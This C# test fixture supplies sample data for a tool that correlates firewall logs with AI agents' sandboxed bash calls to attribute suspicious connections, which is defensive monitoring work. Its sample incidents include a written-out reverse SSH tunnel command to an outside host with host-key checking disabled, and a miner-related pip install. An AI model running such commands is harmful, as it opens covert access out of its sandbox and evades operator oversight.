// SPDX-License-Identifier: Apache-2.0
using FwCorrelate.Correlation;
using FwCorrelate.Flows;
using FwCorrelate.Incidents;
using FwCorrelate.Ingestion;
using FwCorrelate.Matching;
using FwCorrelate.Network;
using FwCorrelate.Service;
using FwCorrelate.Timelines;
using NodaTime;

namespace FwCorrelate.Cli.Tests;

/// <summary>Results made by hand.</summary>
internal static class Sample
{
    public static readonly Instant Start = Instant.FromUtc(2026, 1, 15, 3, 12, 44);

    public static readonly RuleSummary Tunnel = new(
        "3f2b6c1e-0000-4000-8000-000000000001", "Reverse SSH tunnel to an unknown host", Level.Critical, "", "tunnel", ["attack.t1572"], [],
        "rules/tunnel.yml:1", RuleEvent.Flow, false);

    public static readonly RuleSummary Mining = Tunnel with
    {
        Id = "3f2b6c1e-0000-4000-8000-000000000002",
        Title = "Mining pool contacted",
        Level = Level.High,
        Family = "mining",
        Source = "rules/mining.yml:1",
    };

    public static readonly RuleSummary Sweep = Tunnel with
    {
        Id = "3f2b6c1e-0000-4000-8000-000000000003",
        Title = "Sweep of the internal network",
        Level = Level.Medium,
        Family = "sweep",
        Source = "rules/sweep.yml:1",
    };

    public static RecordOrigin Origin(string file, long line) => new(file, line, 0, line * 100, new string('a', 64));

    public static ToolCall Call(string id, string episode, string command) => new()
    {
        TraceId = "trace-" + episode,
        SpanId = "span-" + id,
        CallId = id,
        ToolName = "bash",
        Command = command,
        Start = new TimePoint(Start, Duration.Zero, TimeBasis.Clock),
        End = new TimePoint(Start + Duration.FromSeconds(9), Duration.Zero, TimeBasis.Clock),
        RunId = "rome-7",
        EpisodeId = episode,
        Step = "120",
        Turn = "4",
        SandboxId = "sb-17",
        Origin = Origin("timeline/traces.jsonl", 17),
    };

    public static Attribution Named(ToolCall call) => new()
    {
        Kind = AttributionKind.ToolCall,
        Rung = Rung.B,
        Call = call,
        Confidence = 0.9962,
        Lag = Duration.FromMilliseconds(310),
        NoneWeight = 0.0038,
        Candidates = [new CallCandidate(call, 0.9962, Duration.FromMilliseconds(310), ["exclusive lease", "opens 310 ms after the call starts"])],
    };

    public static Incident Incident(string id, RuleSummary rule, Attribution attribution) => new()
    {
        Id = id,
        Rule = rule,
        Rules = [rule],
        Verdict = Verdict.AgentInitiated,
        VerdictReasons = [new(true, "destination named in the command"), new(true, "opens 310 ms after the call starts"), new(false, "one of 12 turns has no recorded call")],
        FirstSeen = Start,
        LastSeen = Start + Duration.FromMinutes(50),
        RecordCount = 31,
        ConnectionCount = 4,
        RunId = "rome-7",
        EpisodeId = "ep-42",
        Step = "120",
        TaskId = "task-9",
        SandboxId = "sb-17",
        Source = HostAddress.Parse("10.8.3.17"),
        NamedCalls = attribution.Call is { } call ? [call] : [],
        Candidates = attribution.Call is null ? attribution.Candidates : [],
        Attribution = attribution,
        Command = attribution.Call?.Command ?? (attribution.Candidates.Count > 0 ? attribution.Candidates[0].Call.Command : null),
        Target = "203.0.113.9:22/tcp",
        Evidence = [new Evidence("call", Origin("timeline/traces.jsonl", 17)), new Evidence("flow", Origin("logs/a b.log.gz", 812))],
        Scope = new IncidentScope(["10.8.0.12"], 3, 1_234_567, ["sb-18"]),
        Ongoing = Ongoing.Yes,
        Origin = new DestinationOrigin("not_seen"),
        BehaviourId = "BEH-1",
    };

    public static Ledger Ledger() => new()
    {
        Read = 41_203_118,
        Parsed = 41_203_000,
        Rejected = 100,
        Ignored = 18,
        NoData = 10,
        Evaluated = 41_202_990,
        Matched = 12,
        Unmatched = 41_202_978,
        ToolCall = 9,
        Candidates = 2,
        Sandbox = 1,
        Suppressed = 1,
    };

    /// <summary>A case without findings.</summary>
    public static InvestigationResult Quiet() => new()
    {
        CasePath = "cases/0412",
        DisplayZone = DateTimeZone.Utc,
        BytesRead = 2_412_000_000,
        Elapsed = Duration.FromSeconds(112),
        Inputs =
        [
            new InputSummary("logs/a b.log.gz", InputRole.Log, "alibaba-cloud-firewall", "firewall", 200, "", 12_004, null, null, null),
            new InputSummary("timeline/traces.jsonl", InputRole.Trace, "otlp", "traces", 200, "", 4_812, null, null, null),
        ],
        Sources =
        [
            new SourceTrust(
                new LogSettings("firewall", Duration.FromSeconds(2), true, Duration.FromSeconds(23), DateTimeZoneProviders.Tzdb["Asia/Shanghai"], true),
                [FlowFormats.Shipped.Find("alibaba-cloud-firewall")!.Table], 1, 12_004, Instant.FromUtc(2026, 1, 15, 0, 0, 0), Instant.FromUtc(2026, 1, 15, 23, 59, 58), [], 2),
        ],
        TimelineTrust = new TimelineTrust(
            3, 120, 4_812, 0, 0, Instant.FromUtc(2026, 1, 15, 0, 1, 12), Instant.FromUtc(2026, 1, 15, 22, 14, 3), 1, 480, 470, 10,
            new Dictionary<TimeBasis, int> { [TimeBasis.Clock] = 4_812 }),
        Rules = [new RuleTrust(Tunnel, 0, null), new RuleTrust(Mining, 0, null), new RuleTrust(Sweep, 0, null)],
        RuleErrors = [],
        Behaviours = [],
        Incidents = [],
        Attributions = [],
        Ledger = new Ledger { Read = 12_004, Parsed = 12_004, Evaluated = 12_004, Unmatched = 12_004 },
        LedgerBySource = new Dictionary<string, Ledger>(),
        Rejected = [],
        Warnings = [],
    };

    /// <summary>A case with something of everything.</summary>
    public static InvestigationResult Busy()
    {
        var call = Call("call_17", "ep-42", "ssh -f -N -R 2222:localhost:22 root@203.0.113.9 -o StrictHostKeyChecking=no");
        var tunnels = Enumerable.Range(0, 12).Select(i => Incident($"INC-{i:x12}", Tunnel, Named(call)) with
        {
            FirstSeen = Start + Duration.FromMinutes(i),
            LastSeen = Start + Duration.FromMinutes(i + 50),
            EpisodeId = $"ep-{42 + i}",
        }).ToList();
        var mining = Undetermined();
        var suppressed = Incident("INC-0000000000ee", Sweep, Named(call)) with { SuppressedBy = "10.8.0.0/16 from hosts (health checks)", Target = "60 addresses of 10.8.0.0/16, port 22" };
        return Quiet() with
        {
            Behaviours =
            [
                new Behaviour("BEH-1", Tunnel.Title, "203.0.113.9:22/tcp", Level.Critical, tunnels),
                new Behaviour("BEH-2", Mining.Title, "198.51.100.23:3333/tcp", Level.High, [mining]),
                new Behaviour("BEH-3", Sweep.Title, suppressed.Target, Level.Medium, [suppressed]),
            ],
            Incidents = [.. tunnels, mining, suppressed],
            Ledger = Ledger(),
            Sources = [WithGaps(Quiet().Sources[0])],
            TimelineTrust = Quiet().TimelineTrust with
            {
                MeanTraceCoverage = 0.83,
                CallsWithoutCommand = 12,
                CallsByBasis = new Dictionary<TimeBasis, int> { [TimeBasis.Clock] = 4_700, [TimeBasis.Bracketed] = 112 },
            },
            Rules = [new RuleTrust(Tunnel, 12, null), new RuleTrust(Mining, 1, null), new RuleTrust(Sweep, 0, "no source logs denied connections")],
            RuleErrors = ["rules/own.yml:7:5: the modifier 'containz' is not known: use contains"],
            Rejected = [new RejectedRecord("logs/a b.log.gz", 99, 4_000, "port 99999 is above 65535")],
            RejectedUnlisted = 99,
            Warnings = ["infrastructure entry 2 (10.9.0.1 from hosts) matched nothing"],
            Inputs = [.. Quiet().Inputs, new InputSummary("notes.txt", InputRole.Unrecognised, "", "", 10, "", 0, null, null, null)],
            OutputFolder = "out 1",
        };
    }

    private static Incident Undetermined()
    {
        var (first, second) = (Call("call_3", "ep-7", "python train.py"), Call("call_3", "ep-8", "pip install xmrig-stats"));
        var attribution = new Attribution
        {
            Kind = AttributionKind.Candidates,
            Rung = Rung.D,
            NoneWeight = 0.11,
            Confidence = 0.61,
            Candidates =
            [
                new CallCandidate(first, 0.61, Duration.FromSeconds(4), ["shared lease", "opens 4 s after the call starts"]),
                new CallCandidate(second, 0.28, Duration.FromSeconds(9), ["shared lease"]),
            ],
            Reasons = ["two sandboxes share 10.8.3.17"],
        };
        return Incident("INC-0000000000dd", Mining, attribution) with
        {
            WouldDecide = ["conntrack log of host gpu-3, 03:10 to 03:15"],
            Verdict = Verdict.Undetermined,
            VerdictReasons = [new(false, "two sandboxes share the address")],
            Ongoing = Ongoing.No,
            SandboxId = null,
            EpisodeId = null,
            Target = "198.51.100.23:3333/tcp",
            Scope = new IncidentScope([], 0, 0, []),
            Origin = new DestinationOrigin("unknown"),
        };
    }

    private static SourceTrust WithGaps(SourceTrust source) => source with
    {
        Gaps =
        [
            .. Enumerable.Range(0, 4).Select(i => new CoverageGap(
                new Interval(Start + Duration.FromHours(i), Start + Duration.FromHours(i) + Duration.FromMinutes(20 + i)), IsLoss: i == 0)),
        ],
    };
}
